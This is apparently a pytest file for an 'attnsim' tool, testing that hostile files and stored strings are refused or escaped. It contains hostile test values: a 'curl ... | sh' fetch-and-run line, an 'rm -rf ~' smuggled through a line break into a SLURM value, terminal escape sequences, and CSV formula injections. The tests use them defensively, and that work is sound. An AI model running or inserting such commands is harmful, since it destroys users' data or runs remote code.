"""Inputs bounded before they are read, a cache no planted file can stall, and stored strings that cannot act on a
terminal, a spreadsheet or a cluster (issue 31): attnsim.core.fileio's size limits, regular-file-only opens of inputs
and cache entries, terminal_text / csv_cell on output, --emit-sbatch without partial folders, slurm.extra listed,
--point-fn an explicit plugin, --front-points bounded. Hostile files (FIFOs, symlinks, sparse files) live in
tmp_path; no test writes a large file (sparse files take no disk space)."""

import csv
import json
import os
import signal
import time
import warnings

import numpy as np
import pytest
import yaml
from sweep_helpers import write_sweep

from attnsim.cli import main
from attnsim.core import cache, fileio
from attnsim.core.config import ConfigError, load_yaml
from attnsim.core.fileio import INPUT_LIMITS, InputRefused, open_regular, read_regular
from attnsim.core.outputs import csv_cell, terminal_text
from attnsim.studies.sweep.store import StoreWriter, make_record

GIB = 1 << 30


@pytest.fixture
def hang_guard():
    """Fail instead of hanging: an open() that blocks on a FIFO is interrupted after 20 s."""

    def boom(signum, frame):
        raise TimeoutError("blocked (a FIFO open or an endless read)")

    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


def _sparse(path, size):
    with open(path, "wb") as f:
        f.truncate(size)  # no data blocks: a hole of `size` bytes
    return path


def _one_line(capsys, rc, *want):
    out, err = capsys.readouterr()
    lines = err.strip().splitlines()
    assert rc == 2 and len(lines) == 1 and lines[0].startswith("error: "), (rc, err)
    for w in want:
        assert w in lines[0], (w, lines[0])
    return lines[0]


# ---------------------------------------------------------------- attnsim.core.fileio


def test_a_fifo_is_refused_without_blocking(tmp_path, hang_guard):
    p = tmp_path / "fifo"
    os.mkfifo(p)  # no writer: a blocking open() would wait forever
    with pytest.raises(InputRefused, match="expected a regular file, got a pipe"):
        read_regular(p)
    with pytest.raises(ConfigError, match="fifo: expected a regular file, got a pipe"):
        load_yaml(p)


def test_a_symlink_is_refused_where_links_are_not_followed(tmp_path):
    target = tmp_path / "t"
    target.write_bytes(b"x")
    (tmp_path / "l").symlink_to(target)
    assert read_regular(tmp_path / "l") == b"x"  # a user's own config may be a link
    with pytest.raises(InputRefused, match="symbolic link"):
        read_regular(tmp_path / "l", follow_symlinks=False)
    (tmp_path / "z").symlink_to("/dev/zero")
    with pytest.raises(InputRefused, match="character device"):
        read_regular(tmp_path / "z")


def test_size_is_checked_before_a_byte_is_read(tmp_path, monkeypatch):
    p = _sparse(tmp_path / "big.yaml", 2 * GIB)
    reads = []
    monkeypatch.setattr(fileio.os, "read", lambda *a: reads.append(a) or b"")
    with pytest.raises(InputRefused) as e:
        read_regular(p)
    # 16 MiB = INPUT_LIMITS["document"] = 16777216 B; the file is 2 * 2^30 = 2147483648 B
    assert str(e.value) == (
        "file of 2147483648 B: larger than the 16777216 B limit (set ATTNSIM_MAX_DOCUMENT_MB=<MiB> to raise it)"
    )
    assert reads == []


def test_the_limit_is_overridden_by_its_environment_variable(tmp_path, monkeypatch):
    p = tmp_path / "c.yaml"
    p.write_text("a: " + "x" * 2000 + "\n")  # 2004 B
    assert load_yaml(p)["a"].startswith("x")
    monkeypatch.setenv("ATTNSIM_MAX_DOCUMENT_MB", "0.001")  # 0.001 MiB = int(1048.576) = 1048 B < 2004 B
    with pytest.raises(ConfigError, match="larger than the 1048 B limit"):
        load_yaml(p)
    monkeypatch.setenv("ATTNSIM_MAX_DOCUMENT_MB", "lots")
    with pytest.raises(ConfigError, match="^ATTNSIM_MAX_DOCUMENT_MB: expected a size in MiB"):
        load_yaml(p)
    assert set(INPUT_LIMITS) == {"document", "data"}


def test_a_file_that_grows_past_the_limit_while_read_is_refused(tmp_path):
    p = tmp_path / "f"
    p.write_bytes(b"x" * 100)
    fd, size = open_regular(p, 1000)
    os.close(fd)
    assert size == 100
    with pytest.raises(InputRefused, match="larger than the 50 B limit"):
        read_regular(p, limit_bytes=50)


@pytest.mark.parametrize(
    "argv,name",
    [
        (["run", "exp.yaml", "--no-write"], "exp.yaml"),  # experiment YAML
        (["sweep", "sweep.yaml", "--no-progress"], "sweep.yaml"),  # sweep file
        (["run", "hf_exp.yaml", "--no-write"], "config.json"),  # HF config.json named by an experiment
    ],
)
def test_2_gib_inputs_are_refused_in_one_line_before_reading(tmp_path, capsys, argv, name, monkeypatch):
    from sweep_helpers import TINY_EXPERIMENT

    monkeypatch.chdir(tmp_path)
    (tmp_path / "hf_exp.yaml").write_text(yaml.safe_dump({**TINY_EXPERIMENT, "models": ["config.json"]}))
    _sparse(tmp_path / name, 2 * GIB)
    t0 = time.monotonic()
    rc = main(argv)
    line = _one_line(capsys, rc, "larger than the 16777216 B limit")
    assert time.monotonic() - t0 < 30, line  # refused on its size: nothing parsed


def test_an_error_quoting_a_huge_input_is_cut(tmp_path):
    """bench/fuzz.py found a 5 MB --set item quoted whole (then escaped, > 10 s on a busy machine)."""
    from attnsim.core.config import MAX_MESSAGE_CHARS, parse_set

    item = "\udced\udcb3\udcad" * 300_000  # 900,000 lone surrogates, each escaped as \udcXX (6 characters)
    t0 = time.monotonic()
    with pytest.raises(ConfigError) as e:
        parse_set(item)
    msg = str(e.value)
    assert time.monotonic() - t0 < 5 and "\n" not in msg
    assert len(msg) <= MAX_MESSAGE_CHARS + 40 and msg.endswith("characters in all)"), msg[-80:]
    assert str(ConfigError("short", file="f", key="k")) == "f: k: short"  # short messages untouched


def test_a_set_key_with_an_undecodable_byte_is_one_error(capsys):
    """bench/fuzz.py: a --set key holding a lone surrogate (what Python makes of a non-UTF-8 byte in argv)
    was a UnicodeEncodeError inside pydantic's error report."""
    rc = main(["run", "--no-write", "--set", "experiment.scenarios.chat.batch\udcdfsize=9223372036854775808"])
    assert rc == 2 and "Traceback" not in capsys.readouterr().err


def test_hf_config_nested_too_deeply_is_one_error(tmp_path):
    from attnsim.workloads.hf import model_from_hf_config

    p = tmp_path / "config.json"
    p.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(ConfigError, match="nested too deeply"):
        model_from_hf_config(p)


# ---------------------------------------------------------------- DRAM traces


def test_a_huge_one_line_dram_trace_is_quoted_with_a_bounded_prefix(tmp_path):
    from attnsim.cli.dram import read_trace

    p = tmp_path / "t.trace"
    with open(p, "wb") as f:
        f.write(b"0x" + b"4" * 100)
        f.truncate(512 << 20)  # one 512 MiB "line" (a hole of NUL bytes after the first 102 B)
    with pytest.raises(ConfigError) as e:
        read_trace(str(p))
    msg = str(e.value)
    assert "line 1" in msg and "longer than 4096 B" in msg and len(msg) < 300, msg


def test_the_compiled_reader_quotes_a_bounded_prefix(tmp_path):
    from attnsim.hwmodels.dram.traces import _line_text

    b = np.frombuffer(b"0x0 R\n" + b"y" * 10_000_000 + b"\nz\n", np.uint8)
    assert _line_text(b, 1) == "0x0 R"
    assert _line_text(b, 2, chunk=4096) == "y" * 60 + "..."  # the line spans 2442 chunks
    assert _line_text(b, 3, chunk=4096) == "z"


def test_a_npy_trace_with_a_broken_header_is_one_error(tmp_path):
    """Found by the dram_any fuzz harness: numpy tokenizes the .npy header, a cut one raised TokenError."""
    from attnsim.hwmodels.dram.traces import read_trace_any

    p = tmp_path / "t.npy"
    header = b"{'descr': [('addr', '<u8'), ('write', '|u1'), ('arrival', '<i8\x00)], 'fortran_order': False, "
    p.write_bytes(b"\x93NUMPY\x01\x00\xb6\x00" + header + b"'shape': (2,), }" + b" " * 74 + b"\n" + b"\x00" * 34)
    with pytest.raises(ConfigError, match="expected a .npy trace"):
        read_trace_any(str(p), None, "npy")


def test_a_device_as_dram_trace_is_refused_unread(tmp_path, capsys, hang_guard):
    """/dev/zero never ends: refused on its type (a pipe the user names is read, up to the limit:
    test_dram_traces.py::test_text_trace_from_a_pipe_and_an_empty_file)."""
    (tmp_path / "t.trace").symlink_to("/dev/zero")
    _one_line(capsys, main(["dram", "--device", "hbm3_6400", "--trace", str(tmp_path / "t.trace")]), "device")


def test_a_dram_trace_over_the_limit_is_refused_unread(tmp_path, capsys):
    from attnsim.cli.dram import MAX_REQUESTS

    p = _sparse(tmp_path / "t.trace", 64 * MAX_REQUESTS + 1)  # 64 B x 2^25 requests + 1 = 2 GiB + 1
    _one_line(capsys, main(["dram", "--device", "hbm3_6400", "--trace", str(p)]), "2147483648 B")


# ---------------------------------------------------------------- the sub-result cache


def _entry(root, k):
    return root / k[:2] / f"{k}.json"


@pytest.mark.parametrize("plant", ["fifo", "dev-zero-link", "directory-link"])
def test_a_planted_cache_entry_is_skipped_with_one_warning(tmp_path, monkeypatch, hang_guard, plant):
    root = tmp_path / "c"
    monkeypatch.setenv(cache.ENV, str(root))
    cache.reset()
    cache.cached(("probe",), lambda: 1)  # creates the folder and its key
    keys = [cache.cache_key((f"x{i}",)) for i in range(2)]
    for k in keys:
        e = _entry(root, k)
        e.parent.mkdir(parents=True, exist_ok=True)
        if plant == "fifo":
            os.mkfifo(e)
        elif plant == "dev-zero-link":
            e.symlink_to("/dev/zero")
        else:
            e.symlink_to(tmp_path)
    cache.reset()
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        assert [cache.cached((f"x{i}",), lambda i=i: i + 10) for i in range(2)] == [10, 11]
    msgs = [str(x.message) for x in w]
    assert len(msgs) == 1 and "skipped and recomputed" in msgs[0], msgs
    for k in keys:  # each entry rewritten as a regular file: the next process reads it
        assert _entry(root, k).is_file() and not _entry(root, k).is_symlink()
    cache.reset()
    assert cache.cached(("x1",), lambda: 99) == 11 and cache.stats()["hits"] == 1
    cache.reset()


def test_a_fifo_as_cache_key_file_is_refused_without_blocking(tmp_path, monkeypatch, hang_guard):
    root = tmp_path / "c"
    root.mkdir()
    os.mkfifo(root / ".key")
    monkeypatch.setenv(cache.ENV, str(root))
    cache.reset()
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        assert cache.cached(("k",), lambda: 5) == 5
    assert any("key file" in str(x.message) for x in w), [str(x.message) for x in w]
    cache.reset()


def test_a_fifo_as_sqlite_cache_is_refused_without_blocking(tmp_path, hang_guard):
    p = tmp_path / "c.sqlite"
    os.mkfifo(p)
    assert cache.check_location(str(p)) == "not a regular file"


# ---------------------------------------------------------------- stored strings on output

ESC = "\x1b]0;pwned\x07\x1b[2J"  # set the window title, clear the screen


def _hostile_store(path):
    doc = {
        "system": "sys" + ESC,
        "model": "m",
        "scenario": {"name": "c", "batch_size": 1},
        "status": "ok",
        "metrics": {"tpot_s": 0.001},
    }
    meta = {"sweep_id": "x", "experiment": "e" + ESC, "parameters": json.dumps(["label", "n", "note"])}
    with StoreWriter(path, meta, {"label": "str", "n": "i8", "note": "str"}) as w:
        w.append(make_record(0, "k0", {"label": '=HYPERLINK("http://x","y")', "n": -3, "note": "a" + ESC}, doc, "{}"))
        w.append(make_record(1, "k1", {"label": "-2.5", "n": 4, "note": "b"}, dict(doc, system="@SUM(A1)"), "{}"))
    return path


def test_show_escapes_control_characters_of_stored_strings(tmp_path, capsys):
    p = _hostile_store(tmp_path / "s.h5")
    assert main(["show", str(p)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]0;pwned\\x07" in out  # shown, escaped
    assert main(["show", str(p), "--json"]) == 0
    js = capsys.readouterr().out
    assert "\x1b" not in js and json.loads(js)["runs"]  # JSON escapes them itself (\u001b)


@pytest.mark.parametrize("argv", [["show", "{p}"], ["export", "{p}", "--csv", "-o", "{p}.csv"]])
def test_a_fifo_as_store_is_refused_without_blocking(tmp_path, capsys, hang_guard, argv):
    p = tmp_path / "s.h5"
    os.mkfifo(p)  # HDF5's own open() would wait for a writer forever
    _one_line(capsys, main([a.replace("{p}", str(p)) for a in argv]), "pipe")


def test_terminal_text_keeps_layout_and_escapes_the_rest():
    assert terminal_text("a\tb\nc é 漢") == "a\tb\nc é 漢"
    assert terminal_text("x\x1b[31m\r\x08\x9b\u202e") == "x\\x1b[31m\\r\\x08\\x9b\\u202e"


def test_csv_export_quotes_formulas_and_leaves_numbers(tmp_path, capsys):
    p = _hostile_store(tmp_path / "s.h5")
    out = tmp_path / "s.csv"
    assert main(["export", str(p), "--csv", "-o", str(out)]) == 0
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["label"] == '\'=HYPERLINK("http://x","y")'  # OWASP CSV injection: a leading '
    assert rows[1]["label"] == "-2.5"  # a number stored as text is still a number
    assert rows[0]["n"] == "-3"  # numeric cells untouched
    assert rows[1]["system"] == "'@SUM(A1)"
    for v in ("=1+2", "+x", "-x", "@x", "\tx", "\rx"):
        assert csv_cell(v) == "'" + v
    assert [csv_cell(v) for v in (-1, 2.5, "-1e3", "+4", "plain", "")] == [-1, 2.5, "-1e3", "+4", "plain", ""]


# ---------------------------------------------------------------- job scripts


def _slurm_sweep(tmp_path, **slurm):
    return write_sweep(tmp_path, [{"grid": {"scenario.batch_size": [1, 2]}}], slurm={"shards": 2, **slurm})


def test_refused_emit_sbatch_leaves_no_log_folder(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    p = _slurm_sweep(tmp_path / "sw", time="01:00:00\nrm -rf ~")  # a line break in an #SBATCH value: refused
    rc = main(["sweep", str(p), "--out", str(tmp_path / "o" / "s.h5"), "--emit-sbatch", str(tmp_path / "job.sh")])
    _one_line(capsys, rc, "line breaks")
    assert not (tmp_path / "o" / "logs").exists() and not (tmp_path / "job.sh").exists()


def test_slurm_extra_lines_are_listed_on_stderr_when_a_script_is_emitted(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    extra = ["#SBATCH --qos=long", "curl http://example.invalid/x | sh", "echo \x1b[2J"]
    p = _slurm_sweep(tmp_path / "sw", extra=extra)
    for target in (str(tmp_path / "job.sh"), "-"):
        assert main(["sweep", str(p), "--out", str(tmp_path / "s.h5"), "--emit-sbatch", target]) == 0
        out, err = capsys.readouterr()
        lines = err.splitlines()
        i = next(j for j, x in enumerate(lines) if "slurm.extra" in x)
        assert "3 slurm.extra line(s)" in lines[i] and "pasted into the job script" in lines[i]
        assert lines[i + 1 : i + 4] == [
            "  #SBATCH --qos=long",
            "  curl http://example.invalid/x | sh",
            "  echo \\x1b[2J",
        ]
    script = (tmp_path / "job.sh").read_text()
    assert "curl http://example.invalid/x | sh" in script  # pasted as written, by design
    assert (
        main(
            [
                "sweep",
                str(write_sweep(tmp_path / "plain", [{"grid": {"scenario.batch_size": [1]}}])),
                "--out",
                str(tmp_path / "p.h5"),
                "--emit-sbatch",
                "-",
            ]
        )
        == 0
    )
    assert "slurm.extra" not in capsys.readouterr().err  # nothing to list


# ---------------------------------------------------------------- --point-fn, --front-points


def test_point_fn_is_a_documented_plugin_with_a_checked_name(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    p = write_sweep(tmp_path / "sw", [{"grid": {"scenario.batch_size": [1]}}])
    with pytest.raises(SystemExit):
        main(["sweep", "--help"])
    assert "--point-fn MODULE:FUNCTION" in capsys.readouterr().out
    for bad in ("os.system", "os:system('x')", "a:b:c", ":f", "m:"):
        _one_line(
            capsys,
            main(["sweep", str(p), "--point-fn", bad, "--no-progress"]),
            "--point-fn",
            "expected MODULE:FUNCTION",
        )
    _one_line(
        capsys,
        main(["sweep", str(p), "--point-fn", "test_sweep_trust:fake_point", "--emit-sbatch", "-"]),
        "--point-fn",
        "no effect",
    )
    rc = main(
        [
            "sweep",
            str(p),
            "--out",
            str(tmp_path / "s.h5"),
            "--workers",
            "1",
            "--no-progress",
            "--point-fn",
            "test_sweep_trust:fake_point",
        ]
    )
    assert rc == 0
    from attnsim.studies.sweep.store import open_store

    assert open_store(tmp_path / "s.h5").columns()["tpot_s"].tolist() == [1e-3]  # fake_point: 1e-3 x batch 1


@pytest.mark.parametrize("n", ["1e9", "1001", "0"])
def test_front_points_is_bounded(capsys, n):
    from attnsim.studies.plan import MAX_FRONT_POINTS

    assert MAX_FRONT_POINTS == 1000
    with pytest.raises(SystemExit) as e:
        main(["plan", "--front-points", n])
    err = capsys.readouterr().err.strip()
    assert e.value.code == 2 and len(err.splitlines()) == 1 and "--front-points" in err and "1000" in err, err
